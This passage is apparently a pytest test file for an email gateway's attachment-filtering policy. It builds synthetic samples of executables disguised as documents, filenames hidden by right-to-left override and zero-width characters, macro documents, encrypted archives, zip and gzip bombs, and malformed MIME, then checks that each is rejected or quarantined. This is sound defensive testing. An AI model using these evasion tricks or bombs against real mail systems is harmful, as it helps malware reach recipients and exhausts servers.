"""The attachments policy, by pure calls: each case states a message and the exact symbols.

Files are real (see test_attachments_builders); the forced action is part of
each expectation, since "rejected" versus "quarantined" is the operator's
contract.
"""

from __future__ import annotations

import asyncio
import time
import tracemalloc
import zipfile
from dataclasses import replace

import pytest
from test_attachments_builders import (
    MSI_CLSID,
    b64,
    cab_bytes,
    compressed_bytes,
    docm_bytes,
    docx_with_embedding,
    elf_bytes,
    iso9660_bytes,
    message,
    nested_zip,
    ole_bytes,
    ole_package,
    pdf_bytes,
    pe_bytes,
    png_bytes,
    rar_bytes,
    raw_message,
    sevenzip_bytes,
    tar_bytes,
    tar_gz_bytes,
    xls_with_macro_sheet,
    zip_bytes,
    zipcrypto_bytes,
)

from gateway.api import Action, OptionError, Result
from gateway.registry import plan_policies
from gateway.replies import verdict_reply
from gateway.schema import Problems
from gateway.testing.context import make_context
from policies.attachments import AttachmentsOptions, AttachmentsPolicy

REJECT, QUARANTINE = Action.REJECT, Action.QUARANTINE
OCTET = "application/octet-stream"


def check(raw: bytes, **options: object) -> Result:
    policy = AttachmentsPolicy(replace(AttachmentsOptions(), **options))
    return asyncio.run(policy.check(make_context(raw)))


def names(result: Result) -> set[str]:
    return {s.name for s in result.symbols}


def detail(result: Result, symbol: str) -> str:
    return next(s.detail for s in result.symbols if s.name == symbol)


def iso_bytes() -> bytes:
    """An ISO 9660 image's first volume descriptor (ECMA-119 §8.4) at sector 16."""
    pvd = b"\x01CD001\x01" + b"\0" * 2041
    return b"\0" * 0x8000 + pvd + b"\xffCD001\x01" + b"\0" * 2041


def part(headers: str, body: bytes) -> bytes:
    return headers.replace("\n", "\r\n").encode() + b"\r\n\r\n" + body


def rfc822(inner: bytes, filename: str = "forwarded.eml") -> bytes:
    """A message forwarding ``inner`` as a message/rfc822 attachment."""
    return raw_message(
        [
            part("Content-Type: text/plain", b"forwarding\r\n"),
            part(
                "Content-Type: message/rfc822\n"
                f'Content-Disposition: attachment; filename="{filename}"',
                inner,
            ),
        ]
    )


CLEAN = [
    ("plain text", message()),
    ("pdf", message(("invoice.pdf", pdf_bytes(), "application/pdf"))),
    ("png", message(("photo.png", png_bytes(), "image/png"))),
    ("docx without macros", message(("report.docx", docm_bytes(macros=False), OCTET))),
    (
        "zip of pdf and png",
        message(("docs.zip", zip_bytes({"a.pdf": pdf_bytes(), "b.png": png_bytes()}), OCTET)),
    ),
    ("tar.gz of pdf", message(("docs.tar.gz", tar_gz_bytes({"a.pdf": pdf_bytes()}), OCTET))),
    ("7z of pdf", message(("docs.7z", sevenzip_bytes({"a.pdf": pdf_bytes()}), OCTET))),
    ("rar of pdf", message(("docs.rar", rar_bytes({"a.pdf": pdf_bytes()}), OCTET))),
    ("ole without macros", message(("old.doc", ole_bytes(("ObjectPool",), "WordDocument"), OCTET))),
    ("script honestly named", message(("install.sh", b"#!/bin/sh\necho hi\n", "text/x-sh"))),
]


@pytest.mark.parametrize(("label", "raw"), CLEAN, ids=[c[0] for c in CLEAN])
def test_clean_attachments_produce_no_symbol_and_no_forced_action(label: str, raw: bytes) -> None:
    result = check(raw)
    assert names(result) == set() and result.force is None, label


BLOCKED = [
    ("exe", message(("setup.exe", pe_bytes(), OCTET)), {"ATTACH_BLOCKED_EXT"}, "setup.exe"),
    (
        "double extension",
        message(("invoice.pdf.exe", pe_bytes(), OCTET)),
        {"ATTACH_BLOCKED_EXT", "ATTACH_DOUBLE_EXT"},
        "invoice.pdf.exe",
    ),
    (
        "double extension hidden by spaces",
        message(("invoice.pdf          .js", b"WScript.Echo(1)", "text/plain")),
        {"ATTACH_BLOCKED_EXT", "ATTACH_DOUBLE_EXT"},
        "invoice.pdf",
    ),
    (
        "PE named and declared as pdf",
        message(("invoice.pdf", pe_bytes(), "application/pdf")),
        {"ATTACH_DISGUISED_EXEC"},
        "invoice.pdf",
    ),
    (
        "ELF named jpg",
        message(("photo.jpg", elf_bytes(), "image/jpeg")),
        {"ATTACH_DISGUISED_EXEC"},
        "photo.jpg",
    ),
    (
        "script by name",
        message(("run.js", b"WScript.Echo(1)", "text/plain")),
        {"ATTACH_BLOCKED_EXT"},
        "run.js",
    ),
    ("upper case", message(("LINK.LNK", b"x" * 40, OCTET)), {"ATTACH_BLOCKED_EXT"}, "LINK.LNK"),
    (
        "trailing dots and spaces",
        message(("evil.exe. . .", pe_bytes(), OCTET)),
        {"ATTACH_BLOCKED_EXT"},
        "evil.exe",
    ),
    (
        "path in name",
        message(("C:\\Users\\x\\Desktop\\evil.scr", pe_bytes(), OCTET)),
        {"ATTACH_BLOCKED_EXT"},
        "evil.scr",
    ),
    (
        "right-to-left override",
        message(("invoice\u202egpj.scr", pe_bytes(), OCTET)),
        {"ATTACH_BIDI_NAME", "ATTACH_BLOCKED_EXT"},
        "invoicegpj.scr",
    ),
    (
        "zero-width space before the real extension",
        message(("report.pdf\u200b.exe", pe_bytes(), OCTET)),
        {"ATTACH_BIDI_NAME", "ATTACH_BLOCKED_EXT", "ATTACH_DOUBLE_EXT"},
        "report.pdf",
    ),
    (
        "MSI disguised as pdf",
        message(("doc.pdf", ole_bytes((), "SummaryInformation", MSI_CLSID), OCTET)),
        {"ATTACH_DISGUISED_EXEC"},
        "Windows installer",
    ),
    (
        "ISO disguised as pdf",
        message(("scan.pdf", iso_bytes(), "application/pdf")),
        {"ATTACH_DISGUISED_EXEC"},
        "scan.pdf",
    ),
    (
        "ISO by name",
        message(("photos.iso", iso_bytes(), OCTET)),
        {"ATTACH_BLOCKED_EXT"},
        "photos.iso",
    ),
    (
        "exe in zip",
        message(("docs.zip", zip_bytes({"docs/setup.exe": pe_bytes()}), OCTET)),
        {"ATTACH_BLOCKED_EXT"},
        "docs.zip > docs/setup.exe",
    ),
    (
        "PE named pdf in a zip in a zip",
        message(("docs.zip", nested_zip(2, "report.pdf", pe_bytes()), OCTET)),
        {"ATTACH_DISGUISED_EXEC"},
        "docs.zip > level1.zip > report.pdf",
    ),
    (
        "scr in tar.gz",
        message(("x.tar.gz", tar_gz_bytes({"a.pdf": pdf_bytes(), "evil.scr": pe_bytes()}), OCTET)),
        {"ATTACH_BLOCKED_EXT"},
        "x.tar.gz > evil.scr",
    ),
    (
        "bat in 7z",
        message(("x.7z", sevenzip_bytes({"run.bat": b"@echo off\r\n"}), OCTET)),
        {"ATTACH_BLOCKED_EXT"},
        "x.7z > run.bat",
    ),
    (
        "PE named jpg in 7z",
        message(("x.7z", sevenzip_bytes({"b.jpg": pe_bytes()}), OCTET)),
        {"ATTACH_DISGUISED_EXEC"},
        "x.7z > b.jpg",
    ),
    (
        "PE in a gzip without a name",
        message(("tool.gz", __import__("gzip").compress(pe_bytes(), mtime=0), OCTET)),
        {"ATTACH_DISGUISED_EXEC"},
        "tool.gz > tool",
    ),
    (
        "exe in rar",
        message(("x.rar", rar_bytes({"evil.exe": pe_bytes()}), OCTET)),
        {"ATTACH_BLOCKED_EXT"},
        "x.rar > evil.exe",
    ),
    (
        "PE named pdf in stored rar",
        message(("x.rar", rar_bytes({"a.pdf": pe_bytes()}), OCTET)),
        {"ATTACH_DISGUISED_EXEC"},
        "x.rar > a.pdf",
    ),
    (
        "jar disguised as zip",
        message(
            (
                "docs.zip",
                zip_bytes(
                    {"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"}
                ),
                OCTET,
            )
        ),
        {"ATTACH_DISGUISED_EXEC"},
        "Java archive",
    ),
    (
        "names visible in an encrypted 7z",
        message(("x.7z", sevenzip_bytes({"evil.exe": pe_bytes()}, "pw"), OCTET)),
        {"ATTACH_BLOCKED_EXT", "ATTACH_ENCRYPTED_ARCHIVE"},
        "x.7z > evil.exe",
    ),
    (
        "exe in a forwarded message",
        rfc822(message(("setup.exe", pe_bytes(), OCTET))),
        {"ATTACH_BLOCKED_EXT"},
        "setup.exe",
    ),
    (
        "unnamed inline PE",
        raw_message(
            [
                part(
                    "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64",
                    b64(pe_bytes()),
                )
            ]
        ),
        {"ATTACH_DISGUISED_EXEC"},
        "no extension",
    ),
    (
        "declared type only",
        message(("update.bin", b"\x00\x01 not a pe", "application/x-msdownload")),
        {"ATTACH_BLOCKED_TYPE"},
        "application/x-msdownload",
    ),
]


@pytest.mark.parametrize(
    ("label", "raw", "expected", "named"), BLOCKED, ids=[c[0] for c in BLOCKED]
)
def test_executables_anywhere_are_rejected_with_a_reason_naming_the_file(
    label: str, raw: bytes, expected: set[str], named: str
) -> None:
    result = check(raw)
    assert names(result) == expected, label
    assert result.force is REJECT
    assert named in result.reason


NAMES = [
    (
        "rfc2231 charset",
        "Content-Disposition: attachment; filename*=utf-8''%D1%81%D1%87%D1%91%D1%82.exe",
    ),
    (
        "rfc2231 continuations",
        'Content-Disposition: attachment; filename*0="inv"; filename*1="oice.e"; filename*2="xe"',
    ),
    (
        "rfc2231 encoded continuations",
        "Content-Disposition: attachment; filename*0*=utf-8''%72%65; filename*1*=port%2Eexe",
    ),
    (
        "rfc2047 in name",
        'Content-Type: application/octet-stream; name="=?utf-8?B?cmVjaG51bmcuZXhl?="',
    ),
    (
        "content-type name differs from filename",
        'Content-Type: application/octet-stream; name="a.exe"\n'
        'Content-Disposition: attachment; filename="a.pdf"',
    ),
]


@pytest.mark.parametrize(("label", "headers"), NAMES, ids=[n[0] for n in NAMES])
def test_encoded_and_alternative_file_names_are_decoded_before_judging(
    label: str, headers: str
) -> None:
    if "Content-Type" not in headers:
        headers = "Content-Type: application/octet-stream\n" + headers
    raw = raw_message(
        [
            part("Content-Type: text/plain", b"hi"),
            part(headers + "\nContent-Transfer-Encoding: base64", b64(b"data")),
        ]
    )
    result = check(raw)
    assert names(result) == {"ATTACH_BLOCKED_EXT"}, label
    assert ".exe" in detail(result, "ATTACH_BLOCKED_EXT")


def test_rfc2231_decoded_name_appears_in_the_detail() -> None:
    raw = raw_message(
        [
            part(
                "Content-Type: application/octet-stream\n"
                "Content-Disposition: attachment; filename*=utf-8''%D1%81%D1%87%D1%91%D1%82.exe",
                b"x",
            )
        ]
    )
    assert detail(check(raw), "ATTACH_BLOCKED_EXT").startswith("счёт.exe")


QUARANTINED = [
    (
        "ZipCrypto zip",
        message(("secret.zip", zipcrypto_bytes("a.pdf", pdf_bytes()), OCTET)),
        {"ATTACH_ENCRYPTED_ARCHIVE"},
    ),
    (
        "encrypted 7z",
        message(("secret.7z", sevenzip_bytes({"a.pdf": pdf_bytes()}, "pw"), OCTET)),
        {"ATTACH_ENCRYPTED_ARCHIVE"},
    ),
    (
        "7z with encrypted names",
        message(
            ("secret.7z", sevenzip_bytes({"a.pdf": pdf_bytes()}, "pw", hide_names=True), OCTET)
        ),
        {"ATTACH_ENCRYPTED_ARCHIVE"},
    ),
    (
        "encrypted rar",
        message(("secret.rar", rar_bytes({"a.pdf": pdf_bytes()}, encrypted=True), OCTET)),
        {"ATTACH_ENCRYPTED_ARCHIVE"},
    ),
    ("docm", message(("report.docm", docm_bytes(), OCTET)), {"ATTACH_MACRO"}),
    ("doc with VBA", message(("report.doc", ole_bytes(), "application/msword")), {"ATTACH_MACRO"}),
    (
        "xls with VBA",
        message(
            ("sheet.xls", ole_bytes(("_VBA_PROJECT_CUR", "VBA"), "dir"), "application/vnd.ms-excel")
        ),
        {"ATTACH_MACRO"},
    ),
    (
        "docm inside a zip",
        message(("x.zip", zip_bytes({"report.docm": docm_bytes()}), OCTET)),
        {"ATTACH_MACRO"},
    ),
    (
        "archives nested too deep",
        message(("deep.zip", nested_zip(6), OCTET)),
        {"ATTACH_ARCHIVE_TOO_DEEP"},
    ),
]


@pytest.mark.parametrize(("label", "raw", "expected"), QUARANTINED, ids=[c[0] for c in QUARANTINED])
def test_encrypted_archives_macros_and_uninspectable_nesting_are_quarantined(
    label: str, raw: bytes, expected: set[str]
) -> None:
    result = check(raw)
    assert names(result) == expected, label
    assert result.force is QUARANTINE
    assert result.reason.startswith("attachment ")


def test_zipcrypto_detail_names_the_archive() -> None:
    result = check(message(("secret.zip", zipcrypto_bytes("a.pdf", b"x"), OCTET)))
    assert detail(result, "ATTACH_ENCRYPTED_ARCHIVE") == "secret.zip: encrypted zip archive"


# --------------------------------------------------------------------------- bombs


def _bounded(raw: bytes, **options: object) -> tuple[Result, float, int]:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = check(raw, **options)
        return result, time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_high_ratio_zip_is_a_bomb_judged_from_declared_sizes_without_expanding() -> None:
    bomb = zip_bytes({"zeros.bin": b"\0" * 20_000_000})
    result, seconds, peak = _bounded(message(("bomb.zip", bomb, OCTET)))
    assert names(result) == {"ATTACH_ARCHIVE_BOMB"} and result.force is REJECT
    assert "ratio" in detail(result, "ATTACH_ARCHIVE_BOMB")
    assert seconds < 2 and peak < 20_000_000


def test_zip_with_a_lying_size_header_never_yields_more_than_it_declares() -> None:
    """A member declaring 1 KiB that inflates to 20 MB: never read past the declared size."""
    data = bytearray(zip_bytes({"small.txt": b"A" * 20_000_000}))
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # uncompressed size fields
        at = data.find(sig)
        data[at + off : at + off + 4] = (1024).to_bytes(4, "little")
    result, seconds, peak = _bounded(message(("lying.zip", bytes(data), OCTET)))
    assert "ATTACH_ARCHIVE_BOMB" not in names(result)
    assert seconds < 2 and peak < 10_000_000


def test_total_expanded_size_over_the_limit_is_a_bomb() -> None:
    import os

    members = {f"part{i}.bin": os.urandom(300_000) for i in range(5)}
    result = check(message(("big.zip", zip_bytes(members), OCTET)), max_expanded_size=1_000_000)
    assert names(result) == {"ATTACH_ARCHIVE_BOMB"}
    assert "expanded size limit" in detail(result, "ATTACH_ARCHIVE_BOMB")


def test_gzip_bomb_is_stopped_at_the_expanded_size_cap() -> None:
    import gzip

    bomb = gzip.compress(b"\0" * 30_000_000, compresslevel=9)
    result, seconds, peak = _bounded(message(("logs.gz", bomb, OCTET)), max_expanded_size=5_000_000)
    assert names(result) == {"ATTACH_ARCHIVE_BOMB"}
    assert seconds < 2 and peak < 30_000_000


def test_archive_with_too_many_members_is_a_bomb_before_parsing_them() -> None:
    many = zip_bytes({f"f{i}.txt": b"" for i in range(3000)}, compress=zipfile.ZIP_STORED)
    result, seconds, _ = _bounded(message(("many.zip", many, OCTET)))
    assert names(result) == {"ATTACH_ARCHIVE_BOMB"}
    assert "members" in detail(result, "ATTACH_ARCHIVE_BOMB")
    assert seconds < 2


def test_nested_bomb_of_zips_costs_at_most_the_budget() -> None:
    """42.zip style: 10 copies of a 10 MB zero file per level, 3 levels, 1 GB if expanded."""
    leaf = zip_bytes({f"z{i}.bin": b"\0" * 1_000_000 for i in range(10)})
    level = zip_bytes({f"l{i}.zip": leaf for i in range(10)})
    top = zip_bytes({f"t{i}.zip": level for i in range(10)})
    result, seconds, peak = _bounded(message(("42.zip", top, OCTET)))
    assert "ATTACH_ARCHIVE_BOMB" in names(result) and result.force is REJECT
    assert seconds < 5 and peak < 100_000_000


def test_deep_archive_nesting_names_the_level_where_inspection_stopped() -> None:
    result = check(message(("deep.zip", nested_zip(10), OCTET)), max_archive_depth=2)
    assert detail(result, "ATTACH_ARCHIVE_TOO_DEEP").startswith(
        "deep.zip > level1.zip > level2.zip:"
    )


# --------------------------------------------------------------------------- limits


def test_attachment_over_the_size_limit_is_rejected() -> None:
    result = check(
        message(("big.pdf", pdf_bytes(5000), "application/pdf")), max_attachment_size=4000
    )
    assert names(result) == {"ATTACH_TOO_LARGE", "ATTACH_TOTAL_TOO_LARGE"} or names(result) == {
        "ATTACH_TOO_LARGE"
    }
    assert result.force is REJECT and "big.pdf" in result.reason


def test_size_limit_counts_decoded_bytes_not_base64_characters() -> None:
    data = pdf_bytes(9_000)
    raw = message(("exact.pdf", data, "application/pdf"))
    assert names(check(raw, max_attachment_size=len(data))) == set()
    assert names(check(raw, max_attachment_size=len(data) - 1)) == {"ATTACH_TOO_LARGE"}


def test_total_size_and_count_limits() -> None:
    files = [(f"f{i}.pdf", pdf_bytes(1000), "application/pdf") for i in range(4)]
    result = check(message(*files), max_total_size=3000, max_attachments=3)
    assert names(result) == {"ATTACH_TOTAL_TOO_LARGE", "ATTACH_TOO_MANY"}
    assert result.force is REJECT


# --------------------------------------------------------------------------- malformed MIME


MALFORMED = [
    (
        "invalid base64 characters",
        raw_message(
            [
                part(
                    "Content-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64",
                    b"JVBERi0x!!LjQK\r\n",
                )
            ]
        ),
        "invalid characters",
    ),
    (
        "truncated base64",
        raw_message(
            [
                part(
                    "Content-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64",
                    b"JVBERi0xLjQKJ",
                )
            ]
        ),
        "truncated base64",
    ),
    (
        "unknown transfer encoding",
        raw_message(
            [
                part(
                    "Content-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: x-rot13",
                    pdf_bytes(),
                )
            ]
        ),
        "unknown transfer encoding x-rot13",
    ),
    (
        "base64 on a multipart",
        b"From: a@example.net\r\nMIME-Version: 1.0\r\nContent-Transfer-Encoding: base64\r\n"
        b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        b"--B\r\nContent-Type: text/plain\r\n\r\nhi\r\n--B--\r\n",
        "transfer encoding base64 on multipart/mixed",
    ),
    (
        "missing close boundary",
        raw_message([part("Content-Type: application/pdf; name=a.pdf", pdf_bytes())], close=False),
        "not closed",
    ),
    (
        "boundary never found",
        b"From: a@example.net\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="NOPE"\r\n\r\n'
        b"just text\r\n",
        "boundary never found",
    ),
]


@pytest.mark.parametrize(("label", "raw", "evidence"), MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_mime_is_a_scored_symbol_never_a_crash(
    label: str, raw: bytes, evidence: str
) -> None:
    result = check(raw)
    assert names(result) == {"ATTACH_MALFORMED"}, label
    assert evidence in detail(result, "ATTACH_MALFORMED")
    assert result.force is None


def _nested_mime(depth: int) -> bytes:
    body = b"Content-Type: application/octet-stream; name=x.exe\r\n\r\nMZ\r\n"
    for i in range(depth):
        b = b"b%d" % i
        body = (
            b'Content-Type: multipart/mixed; boundary="'
            + b
            + b'"\r\n\r\n--'
            + b
            + b"\r\n"
            + body
            + b"\r\n--"
            + b
            + b"--\r\n"
        )
    return b"From: a@example.net\r\nMIME-Version: 1.0\r\n" + body


def test_mime_nesting_deeper_than_the_limit_is_quarantined_not_ignored() -> None:
    result = check(_nested_mime(30), max_mime_depth=20)
    assert names(result) == {"ATTACH_MIME_LIMIT"} and result.force is QUARANTINE
    assert "deeper than 20" in detail(result, "ATTACH_MIME_LIMIT")


def test_nesting_the_parser_cannot_handle_is_quarantined_within_bounded_time() -> None:
    started = time.perf_counter()
    result = check(_nested_mime(1100))
    assert "ATTACH_MIME_LIMIT" in names(result) and result.force is QUARANTINE
    assert time.perf_counter() - started < 20


def test_more_parts_than_the_limit_is_quarantined() -> None:
    parts = [part("Content-Type: text/plain", b"x") for _ in range(60)]
    result = check(raw_message(parts), max_parts=50)
    assert names(result) == {"ATTACH_MIME_LIMIT"}
    assert "more than 50 MIME parts" in detail(result, "ATTACH_MIME_LIMIT")


def test_corrupt_archive_is_quarantined_as_unreadable_not_an_error() -> None:
    """Windows or 7-Zip may open what we cannot: an archive we cannot read is not relayed."""
    result = check(message(("broken.zip", b"PK\x03\x04" + b"\x00" * 100, OCTET)))
    assert names(result) == {"ATTACH_ARCHIVE_UNREADABLE"} and result.force is QUARANTINE
    assert "broken.zip: corrupt zip" in detail(result, "ATTACH_ARCHIVE_UNREADABLE")


def test_zip_member_with_unsupported_compression_is_unreadable() -> None:
    data = bytearray(zip_bytes({"a.pdf": pdf_bytes()}))
    for sig, off in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):  # compression method fields
        at = data.find(sig)
        data[at + off : at + off + 2] = (97).to_bytes(2, "little")  # WavPack: not in zipfile
    result = check(message(("odd.zip", bytes(data), OCTET)))
    assert names(result) == {"ATTACH_ARCHIVE_UNREADABLE"}
    assert detail(result, "ATTACH_ARCHIVE_UNREADABLE").startswith("odd.zip > a.pdf: unreadable")


def test_message_wide_limits_give_a_reason_without_a_file_name() -> None:
    files = [(f"f{i}.pdf", pdf_bytes(), "application/pdf") for i in range(3)]
    result = check(message(*files), max_attachments=2)
    assert result.reason == "3 attachments, more than 2"


# --------------------------------------------------------------------------- configuration


def test_action_score_turns_a_forced_reject_into_a_score_only() -> None:
    result = check(message(("setup.exe", pe_bytes(), OCTET)), action_blocked="score")
    assert names(result) == {"ATTACH_BLOCKED_EXT"} and result.force is None


def test_macro_consequence_can_be_raised_to_reject() -> None:
    result = check(message(("report.docm", docm_bytes(), OCTET)), action_macro="reject")
    assert result.force is REJECT and "report.docm" in result.reason


def test_allow_list_blocks_every_other_extension_including_inside_archives() -> None:
    allowed = ("pdf", "png", "zip")
    assert (
        names(check(message(("a.pdf", pdf_bytes(), "application/pdf")), allowed_extensions=allowed))
        == set()
    )
    result = check(
        message(("d.zip", zip_bytes({"notes.txt": b"hi"}), OCTET)), allowed_extensions=allowed
    )
    assert names(result) == {"ATTACH_BLOCKED_EXT"}
    assert "d.zip > notes.txt" in result.reason


def test_archives_are_not_opened_when_scanning_is_off() -> None:
    raw = message(("docs.zip", zip_bytes({"setup.exe": pe_bytes()}), OCTET))
    assert names(check(raw, scan_archives=False)) == set()


def test_strongest_consequence_wins_and_its_file_is_the_reason() -> None:
    raw = message(
        ("secret.zip", zipcrypto_bytes("a.pdf", b"x"), OCTET), ("setup.exe", pe_bytes(), OCTET)
    )
    result = check(raw)
    assert names(result) == {"ATTACH_ENCRYPTED_ARCHIVE", "ATTACH_BLOCKED_EXT"}
    assert result.force is REJECT and "setup.exe" in result.reason


def test_reject_reply_names_the_file() -> None:
    result = check(message(("invoice.pdf.exe", pe_bytes(), OCTET)))
    reply = verdict_reply(result.force or Action.RELAY, result.reason, "Q1")
    assert (
        str(reply)
        == "550 5.7.1 Message rejected: attachment invoice.pdf.exe: file type .exe is not accepted"
    )


def test_details_stay_bounded_with_hundreds_of_findings() -> None:
    members = {f"file{i}.exe": b"x" for i in range(300)}
    result = check(message(("many.zip", zip_bytes(members), OCTET)))
    assert len(detail(result, "ATTACH_BLOCKED_EXT")) <= 400
    assert "(300 findings)" in detail(result, "ATTACH_BLOCKED_EXT")


@pytest.mark.parametrize(
    ("table", "problem"),
    [
        (
            {"blocked_extensions": [".exe"]},
            "policies.attachments.blocked_extensions: write extensions without a dot",
        ),
        ({"max_ratio": 0}, "policies.attachments.max_ratio: must be at least 1"),
        (
            {"action_macro": "drop"},
            'policies.attachments.action_macro: must be one of "reject", "quarantine", '
            '"add_header", "score", got "drop"',
        ),
        (
            {"max_attachment_sise": 5},
            "policies.attachments.max_attachment_sise: unknown key "
            '(did you mean "max_attachment_size"?)',
        ),
    ],
)
def test_invalid_options_are_config_errors_naming_the_key(
    table: dict[str, object], problem: str
) -> None:
    problems = Problems()
    plan_policies({"attachments": table}, problems, available={"attachments": AttachmentsPolicy})
    assert problems.lines and problems.lines[0].startswith(problem)


def test_option_error_type() -> None:
    with pytest.raises(OptionError):
        AttachmentsOptions(max_parts=0)


def test_every_emitted_symbol_is_declared() -> None:
    declared = set(AttachmentsPolicy.symbols)
    every = [c[1] for c in BLOCKED] + [c[1] for c in QUARANTINED] + [m[1] for m in MALFORMED]
    for raw in every:
        assert names(check(raw)) <= declared


def test_walk_is_memoized_per_message() -> None:
    policy = AttachmentsPolicy(AttachmentsOptions())
    ctx = make_context(message(("a.pdf", pdf_bytes(), "application/pdf")))
    asyncio.run(policy.check(ctx))
    first = ctx.memo(policy._walk)
    asyncio.run(policy.check(ctx))
    assert ctx.memo(policy._walk) is first


def test_clean_pdf_and_plain_text_are_cheap() -> None:
    policy = AttachmentsPolicy(AttachmentsOptions())

    def median(raw: bytes) -> float:
        times = []
        for _ in range(9):
            ctx = make_context(raw)
            started = time.perf_counter()
            asyncio.run(policy.check(ctx))
            times.append(time.perf_counter() - started)
        return sorted(times)[4]

    # Generous bounds for shared CI machines; docs/policies/attachments.md has the measured numbers.
    assert median(message()) < 0.01
    assert median(message(("big.pdf", pdf_bytes(2_000_000), "application/pdf"))) < 0.05


def test_iso_image_disguised_inside_a_zip_is_found_past_the_short_head() -> None:
    result = check(message(("photos.zip", zip_bytes({"album.pdf": iso_bytes()}), OCTET)))
    assert names(result) == {"ATTACH_DISGUISED_EXEC"}
    assert "photos.zip > album.pdf" in result.reason


def test_a_legitimate_zip_of_many_files_is_not_mistaken_for_a_bomb() -> None:
    import os

    members = {f"photo{i:03}.png": png_bytes() + os.urandom(8_000) for i in range(800)}
    raw = message(("holiday.zip", zip_bytes(members), OCTET))
    started = time.perf_counter()
    result = check(raw)
    assert names(result) == set()
    assert time.perf_counter() - started < 5


def test_file_embedded_in_a_docx_as_an_ole_package_is_judged() -> None:
    result = check(message(("report.docx", docx_with_embedding("evil.exe", pe_bytes()), OCTET)))
    assert names(result) == {"ATTACH_BLOCKED_EXT"} and result.force is REJECT
    assert "report.docx > word/embeddings/oleObject1.bin > evil.exe" in result.reason


def test_disguised_executable_in_an_ole_package_is_caught_by_content() -> None:
    raw = message(("contract.doc", ole_package("contract.pdf", pe_bytes()), "application/msword"))
    result = check(raw)
    assert names(result) == {"ATTACH_DISGUISED_EXEC"}
    assert "contract.doc > contract.pdf" in result.reason


def test_excel_4_macro_sheet_in_a_binary_xls_is_a_macro() -> None:
    result = check(message(("budget.xls", xls_with_macro_sheet(), "application/vnd.ms-excel")))
    assert names(result) == {"ATTACH_MACRO"} and result.force is QUARANTINE
    assert "Excel 4.0 macro sheet" in detail(result, "ATTACH_MACRO")


def test_password_protected_office_document_is_quarantined_as_encrypted() -> None:
    encrypted = ole_bytes((), "EncryptedPackage", data=b"\x00" * 5000)
    result = check(message(("salary.xlsx", encrypted, OCTET)))
    assert names(result) == {"ATTACH_ENCRYPTED_ARCHIVE"} and result.force is QUARANTINE
    assert "salary.xlsx: password-protected Office document" in result.reason


def test_office_macros_are_found_even_when_archives_are_not_scanned() -> None:
    result = check(message(("report.docm", docm_bytes(), OCTET)), scan_archives=False)
    assert names(result) == {"ATTACH_MACRO"}


def test_bidi_override_in_an_archive_member_name() -> None:
    raw = message(("x.zip", zip_bytes({"invoice\u202egpj.exe": pe_bytes()}), OCTET))
    assert names(check(raw)) == {"ATTACH_BIDI_NAME", "ATTACH_BLOCKED_EXT"}


def test_files_inside_an_iso_image_are_judged_even_when_iso_is_allowed() -> None:
    image = iso9660_bytes({"readme.txt": b"hello", "invoice.pdf": pe_bytes(5000)})
    blocked = tuple(e for e in AttachmentsOptions().blocked_extensions if e != "iso")
    result = check(message(("docs.iso", image, OCTET)), blocked_extensions=blocked)
    assert names(result) == {"ATTACH_DISGUISED_EXEC"}
    assert "docs.iso > INVOICE.PDF" in result.reason


def test_iso_image_by_name_is_rejected_and_its_executables_named() -> None:
    result = check(message(("docs.iso", iso9660_bytes({"setup.exe": pe_bytes()}), OCTET)))
    assert names(result) == {"ATTACH_BLOCKED_EXT"}
    assert "docs.iso > SETUP.EXE" in detail(result, "ATTACH_BLOCKED_EXT")


def _uuencoded(data: bytes) -> bytes:
    import binascii

    lines = [binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45)]
    return b"begin 644 a.exe\r\n" + b"".join(lines).replace(b"\n", b"\r\n") + b"`\r\nend\r\n"


@pytest.mark.parametrize(
    ("cte", "body", "expected"),
    [
        ("binary", pe_bytes(), {"ATTACH_DISGUISED_EXEC"}),
        ("8bit", pe_bytes(), {"ATTACH_DISGUISED_EXEC"}),
        (None, pe_bytes(), {"ATTACH_DISGUISED_EXEC"}),
        ("quoted-printable", b"MZ=90=00=03=00=00=00=04=00=00=00=FF=FF", {"ATTACH_DISGUISED_EXEC"}),
        ("x-uuencode", _uuencoded(pe_bytes()), {"ATTACH_DISGUISED_EXEC", "ATTACH_MALFORMED"}),
    ],
)
def test_content_is_judged_whatever_the_transfer_encoding(
    cte: str | None, body: bytes, expected: set[str]
) -> None:
    """8-bit bytes must reach the sniffer exactly (get_payload() without decode mangles them)."""
    headers = "Content-Type: application/octet-stream; name=a.pdf"
    if cte:
        headers += f"\nContent-Transfer-Encoding: {cte}"
    result = check(raw_message([part(headers, body)]))
    assert names(result) == expected and result.force is REJECT


def test_types_outside_the_signature_table_are_recognised_with_puremagic() -> None:
    """An operator blocking RTF (a favourite exploit carrier) catches it under any name."""
    rtf = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello}"
    result = check(message(("letter.txt", rtf, "text/plain")), blocked_types=("application/rtf",))
    assert names(result) == {"ATTACH_BLOCKED_TYPE"}
    assert detail(result, "ATTACH_BLOCKED_TYPE") == (
        "letter.txt: content is application/rtf, which is not accepted"
    )
    assert names(check(message(("letter.txt", rtf, "text/plain")))) == set()


def test_archive_too_big_to_open_is_flagged_when_size_is_only_scored() -> None:
    """With action_size = "score", an archive we did not open must not pass silently."""
    import os

    raw = message(("big.zip", zip_bytes({"setup.exe": os.urandom(200_000)}), OCTET))
    result = check(raw, max_attachment_size=100_000, action_size="score")
    assert names(result) == {"ATTACH_TOO_LARGE", "ATTACH_ARCHIVE_UNREADABLE"}
    assert result.force is QUARANTINE


@pytest.mark.parametrize(
    ("filename", "data", "where"),
    [
        ("x.tar", tar_bytes({"bin/evil.exe": pe_bytes()}), "x.tar > bin/evil.exe"),
        ("x.tar.xz", tar_bytes({"evil.exe": pe_bytes()}, "xz"), "x.tar.xz > evil.exe"),
